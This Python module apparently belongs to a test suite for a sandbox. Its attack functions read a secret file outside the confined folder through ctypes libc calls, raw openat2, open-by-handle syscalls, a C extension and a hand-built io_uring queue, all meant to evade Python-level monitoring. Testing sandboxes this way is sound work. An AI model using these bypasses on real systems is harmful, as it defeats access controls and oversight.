"""Reading files outside by calling the system, past everything that Python could notice."""

from __future__ import annotations

import ctypes
import mmap
import os
import struct

from attacks.catalogue import At, attack

AT_FDCWD = -100
OPENAT2, NAME_TO_HANDLE, OPEN_BY_HANDLE = 437, (303, 264), (304, 265)  # x86_64, aarch64
IO_URING_SETUP, IO_URING_ENTER = 425, 426


def libc() -> ctypes.CDLL:
    library = ctypes.CDLL(None, use_errno=True)
    library.syscall.restype = ctypes.c_long
    return library


def call(number: int, *arguments: object) -> int:
    """A system call. Raises OSError with what the kernel answered."""
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return checked(libc().syscall(ctypes.c_long(number), *wide))


def checked(result: int) -> int:
    """The result of a call of the C library. Raises OSError for -1."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def here(numbers: tuple[int, int]) -> int:
    """The number of a call on this machine."""
    return numbers[1 if os.uname().machine == "aarch64" else 0]


@attack("token")
def r_ctypes_open(at: At) -> object:
    path = (at.outside + "/secret.txt").encode()
    fd, buffer = checked(libc().open(path, os.O_RDONLY)), ctypes.create_string_buffer(1000)
    libc().read(fd, buffer, 1000)
    return buffer.value


@attack("token")
def r_ctypes_openat2(at: At) -> object:
    path, how = (at.outside + "/secret.txt").encode(), struct.pack("QQQ", os.O_RDONLY, 0, 0)
    return os.read(call(OPENAT2, AT_FDCWD, path, how, len(how)), 1000)


@attack("token", "studio_thief")
def r_cext(at: At) -> object:
    import studio_thief  # type: ignore[import-not-found]

    return studio_thief.read(at.outside + "/secret.txt")


@attack("token", "root", "handles")
def r_open_by_handle(at: At) -> object:
    """A file by its handle needs no folder on the way to it."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    path = (at.outside + "/secret.txt").encode()
    call(here(NAME_TO_HANDLE), AT_FDCWD, path, handle, ctypes.byref(mount), 0)
    folder = os.open(at.inside, os.O_RDONLY)
    return os.read(call(here(OPEN_BY_HANDLE), folder, handle, os.O_RDONLY), 1000)


@attack("token", "io_uring")
def r_io_uring(at: At) -> object:
    """The kernel opens the file from a queue in shared memory: no call of open is ever made."""
    return os.read(Ring().open((at.outside + "/secret.txt").encode()), 1000)


class Ring:
    """An io_uring of one entry."""

    OPENAT = 18

    def __init__(self) -> None:
        self.parameters = ctypes.create_string_buffer(120)
        self.fd = call(IO_URING_SETUP, 1, self.parameters)
        self.sq_offsets = struct.unpack_from("10I", self.parameters, 40)
        self.cq_offsets = struct.unpack_from("10I", self.parameters, 80)
        flags, both = mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE
        self.sq = mmap.mmap(self.fd, 4096, flags, both, offset=0)
        self.cq = mmap.mmap(self.fd, 4096, flags, both, offset=0x8000000)
        self.entries = mmap.mmap(self.fd, 4096, flags, both, offset=0x10000000)

    def open(self, path: bytes) -> int:
        """The descriptor of the opened file. Raises OSError."""
        name = ctypes.create_string_buffer(path)
        entry = struct.pack(
            "BBHiQQIIQ", self.OPENAT, 0, 0, AT_FDCWD, 0, ctypes.addressof(name), 0, os.O_RDONLY, 7
        )
        self.entries[: len(entry)] = entry
        array, tail = self.sq_offsets[6], self.sq_offsets[1]
        struct.pack_into("I", self.sq, array, 0)
        struct.pack_into("I", self.sq, tail, struct.unpack_from("I", self.sq, tail)[0] + 1)
        call(IO_URING_ENTER, self.fd, 1, 1, 1, None, 0)
        _, result, _ = struct.unpack_from("QiI", self.cq, self.cq_offsets[5])
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return int(result)
